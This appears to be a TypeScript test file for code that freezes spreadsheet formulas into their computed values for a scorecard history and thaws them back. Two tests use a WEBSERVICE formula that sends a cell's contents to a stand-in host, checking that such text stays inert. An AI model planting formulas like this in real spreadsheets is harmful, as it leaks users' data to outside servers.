import fc from 'fast-check';
import { contentText, formula, isFormula } from '../../../src/base/sheetDrawing';
import { frozenContent, thawedContent } from '../../../src/scorecard/history/frozenFormula';

test('a value stands before the formula, which can be had back', () => {
  expect(frozenContent('=A1*2', 82.5)).toEqual(formula('=IF(TRUE,82.5,A1*2)'));
  expect(frozenContent('=A1*2', 1e-7)).toEqual(formula('=IF(TRUE,1E-7,A1*2)'));
  expect(frozenContent('=N4', '优"秀')).toEqual(formula('=IF(TRUE,"优""秀",N4)'));
  expect(frozenContent('=N4', '')).toEqual(formula('=IF(TRUE,"",N4)'));
});

test.each([
  ['no formula', '说明', '说明'],
  ['a number', 5, 5],
  ['an error, which may be repaired later', '=A1', '#REF!'],
  ['frozen already', '=IF(TRUE,1,A1)', 1],
])('%s stays as it is', (_, content, value) => {
  expect(frozenContent(content, value)).toBeNull();
});

test('a formula too long to be wrapped becomes its value', () => {
  expect(frozenContent(`=${'A1+'.repeat(2700)}0`, 7)).toBe(7);
});

test('thawing gives back exactly what was frozen', () => {
  const values = fc.oneof(fc.string(), fc.double({ noNaN: true, noDefaultInfinity: true }));
  fc.assert(
    fc.property(fc.string({ minLength: 1, maxLength: 60 }), values, (body, value) => {
      const frozen = frozenContent(`=${body}`, value);
      fc.pre(frozen !== null && isFormula(frozen));
      expect(thawedContent(contentText(frozen ?? ''), value)).toEqual(formula(`=${body}`));
    }),
  );
  expect(thawedContent('=IF(A1>0,1,2)', 1)).toBeNull();
  expect(thawedContent('说明', '说明')).toBeNull();
});

test.each([
  ['LibreOffice', '=IF(TRUE(),"优""秀",\'考核设置\'!$B$4&N4)', "='考核设置'!$B$4&N4"],
  ['somebody who puts blanks', '=IF( TRUE , 82.5 , N4*2)', '= N4*2'],
  ['a program that writes small letters', '=if(true,"a"&"b",N4)', '=N4'],
  ['a closing after LibreOffice that froze it twice', '=IF(TRUE,86,IF(TRUE(),86,SUM(N7:N9)))', '=SUM(N7:N9)'],
])('a frozen formula as %s spells it is frozen, and what is behind it comes back', (_, content, behind) => {
  expect(frozenContent(content, 86)).toBeNull();
  expect(thawedContent(content, 86)).toEqual(formula(behind));
});

test('a formula that asks whether TRUE holds, and shows no fixed value, is frozen like any other', () => {
  expect(frozenContent('=IF(TRUE,A1,B1)', 5)).toEqual(formula('=IF(TRUE,5,IF(TRUE,A1,B1))'));
  expect(thawedContent('=IF(TRUE,5,IF(TRUE,A1,B1))', 5)).toEqual(formula('=IF(TRUE,A1,B1)'));
});

test('a text that looks like a formula is none, closed or opened', () => {
  expect(frozenContent('=WEBSERVICE("http://x/?"&C3)', '=WEBSERVICE("http://x/?"&C3)')).toBeNull();
  expect(thawedContent('=IF(TRUE,1,A1)', '=IF(TRUE,1,A1)')).toBeNull();
});

test('a text that was frozen as a formula becomes the text again', () => {
  const text = '=WEBSERVICE("http://x/?"&C3)';
  const frozen = '=IF(TRUE,"=WEBSERVICE(""http://x/?""&C3)",WEBSERVICE("http://x/?"&C3))';
  expect(thawedContent(frozen, text)).toBe(text);
});

test('no text in a frozen formula is longer than Excel takes, and no character is cut', () => {
  const texts = fc.string({ unit: 'binary', minLength: 200, maxLength: 900 });
  fc.assert(
    fc.property(texts, (text) => {
      const frozen = contentText(frozenContent('=N4', text) ?? '');
      fc.pre(frozen !== '');
      const literals = [...frozen.matchAll(/"((?:[^"]|"")*)"/g)].map(([, inner = '']) => inner.replace(/""/g, '"'));
      expect(literals.join('')).toBe(text);
      for (const each of literals) {
        expect(each.length).toBeLessThanOrEqual(255);
        expect(each).not.toMatch(/[\uD800-\uDBFF]$/);
      }
      expect(thawedContent(frozen, text)).toEqual(formula('=N4'));
    }),
  );
});
